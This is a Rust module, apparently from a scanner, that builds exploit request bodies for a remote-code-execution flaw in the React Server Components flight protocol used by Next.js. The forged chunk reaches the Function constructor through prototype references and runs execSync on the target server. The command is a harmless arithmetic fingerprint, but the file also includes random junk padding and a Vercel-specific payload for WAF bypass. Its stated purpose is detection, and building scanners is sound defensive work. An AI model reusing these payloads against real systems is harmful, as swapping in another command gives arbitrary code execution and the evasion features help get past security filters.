//! Exploit request bodies for the three detection techniques.
//!
//! Every body is `multipart/form-data` with one fixed boundary. The RCE and
//! Vercel variants abuse the flight protocol's reference resolution
//! (`$1:__proto__:then`, `$1:constructor:constructor`) to reach `Function` and
//! run a fixed arithmetic command whose result is smuggled back in a
//! `NEXT_REDIRECT` digest. The safe variant only asks the decoder to resolve
//! a property path that cannot exist.

use crate::config::{TargetOs, MAX_WAF_BYPASS_SIZE_KB};
use log::debug;

/// Multipart boundary shared by the header and every delimiter in the body.
pub const BOUNDARY: &str = "----WebKitFormBoundaryx8jO2oVc6SWP3Sad";

/// The command computes `41 * 271`.
pub const FINGERPRINT_OPERANDS: (u32, u32) = (41, 271);

/// Output of the fingerprint command; host independent proof of execution.
pub const FINGERPRINT: &str = "11111";

/// Redirect target the thrown digest points at, followed by the result.
pub const REDIRECT_TEMPLATE: &str = "/login?a=";

const UNIX_COMMAND: &str = "echo $((41*271))";
// Sits inside a JSON string, hence the escaped quotes.
const WINDOWS_COMMAND: &str = r#"powershell -c \"41*271\""#;

const JUNK_NAME_LEN: usize = 12;

/// Immutable request body plus its content type, built once per host scan.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadArtifact {
    body: Vec<u8>,
    content_type: String,
}

impl PayloadArtifact {
    pub fn body(&self) -> &[u8] {
        &self.body
    }

    pub fn content_type(&self) -> &str {
        &self.content_type
    }

    pub fn len(&self) -> usize {
        self.body.len()
    }

    pub fn is_empty(&self) -> bool {
        self.body.is_empty()
    }

    /// Body as text. All payloads are ASCII, so this never loses data.
    pub fn body_text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// Knobs that only some techniques look at.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PayloadOptions {
    pub target_os: TargetOs,
    /// Size of the leading junk field in KiB, `None` disables it.
    pub waf_padding_kb: Option<usize>,
}

/// Incremental multipart writer bound to [`BOUNDARY`].
struct MultipartBody {
    buf: String,
}

impl MultipartBody {
    fn with_capacity(capacity: usize) -> Self {
        Self { buf: String::with_capacity(capacity) }
    }

    fn field(mut self, name: &str, value: &str) -> Self {
        self.buf.push_str("--");
        self.buf.push_str(BOUNDARY);
        self.buf.push_str("\r\n");
        self.buf.push_str("Content-Disposition: form-data; name=\"");
        self.buf.push_str(name);
        self.buf.push_str("\"\r\n\r\n");
        self.buf.push_str(value);
        self.buf.push_str("\r\n");
        self
    }

    fn finish(mut self) -> PayloadArtifact {
        self.buf.push_str("--");
        self.buf.push_str(BOUNDARY);
        self.buf.push_str("--");

        PayloadArtifact {
            body: self.buf.into_bytes(),
            content_type: content_type(),
        }
    }
}

pub fn content_type() -> String {
    format!("multipart/form-data; boundary={}", BOUNDARY)
}

/// Safe side-channel body. `$1:aa:aa` makes the decoder walk a property path
/// on chunk 1 that does not exist; unpatched servers blow up with a digest
/// error, patched ones reject the reference earlier.
pub fn build_safe(_options: &PayloadOptions) -> PayloadArtifact {
    MultipartBody::with_capacity(256)
        .field("1", "{}")
        .field("0", r#"["$1:aa:aa"]"#)
        .finish()
}

/// RCE proof-of-concept body, optionally prefixed with a random junk field.
pub fn build_rce(options: &PayloadOptions) -> PayloadArtifact {
    let command = match options.target_os {
        TargetOs::Unix => UNIX_COMMAND,
        TargetOs::Windows => WINDOWS_COMMAND,
    };
    let chunk_zero = fake_chunk(command, "$1:constructor:constructor");

    let padding_kb = options.waf_padding_kb.map(|kb| kb.min(MAX_WAF_BYPASS_SIZE_KB));
    let padding_bytes = padding_kb.map_or(0, |kb| kb.saturating_mul(1024));
    let mut body = MultipartBody::with_capacity(1024 + padding_bytes);

    if let Some(kb) = padding_kb {
        let (name, junk) = junk_field(padding_bytes);
        debug!("Prepending {}KB junk field '{}'", kb, name);
        body = body.field(&name, &junk);
    }

    body.field("0", &chunk_zero)
        .field("1", r#""$@0""#)
        .field("2", "[]")
        .finish()
}

/// Vercel WAF bypass body. `_formData.get` is reached through chunk 3, whose
/// only key is the escaped `"$$`, instead of directly through chunk 1.
pub fn build_vercel_waf_bypass(_options: &PayloadOptions) -> PayloadArtifact {
    let chunk_zero = fake_chunk(UNIX_COMMAND, r#"$3:\"$$:constructor:constructor"#);

    MultipartBody::with_capacity(1024)
        .field("0", &chunk_zero)
        .field("1", r#""$@0""#)
        .field("2", "[]")
        .field("3", r#"{"\"$$":{}}"#)
        .finish()
}

/// JavaScript prepended to the forged chunk. Runs `command` and throws a
/// framework redirect to `/login?a=<output>`.
fn redirect_prefix(command: &str) -> String {
    format!(
        "var res=process.mainModule.require('child_process').execSync('{command}').toString().trim();;\
         throw Object.assign(new Error('NEXT_REDIRECT'),{{digest: `NEXT_REDIRECT;push;{template}${{res}};307;`}});",
        command = command,
        template = REDIRECT_TEMPLATE,
    )
}

/// Chunk 0: a thenable posing as a resolved model whose `_response` points
/// `_formData.get` at the `Function` constructor.
fn fake_chunk(command: &str, form_data_get: &str) -> String {
    format!(
        r#"{{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{{\"then\":\"$B1337\"}}","_response":{{"_prefix":"{prefix}","_chunks":"$Q2","_formData":{{"get":"{get}"}}}}}}"#,
        prefix = redirect_prefix(command),
        get = form_data_get,
    )
}

/// Random field name (12 lowercase letters) and alphanumeric filler.
fn junk_field(size_bytes: usize) -> (String, String) {
    let name: String = std::iter::repeat_with(fastrand::lowercase)
        .take(JUNK_NAME_LEN)
        .collect();
    let junk: String = std::iter::repeat_with(fastrand::alphanumeric)
        .take(size_bytes)
        .collect();
    (name, junk)
}
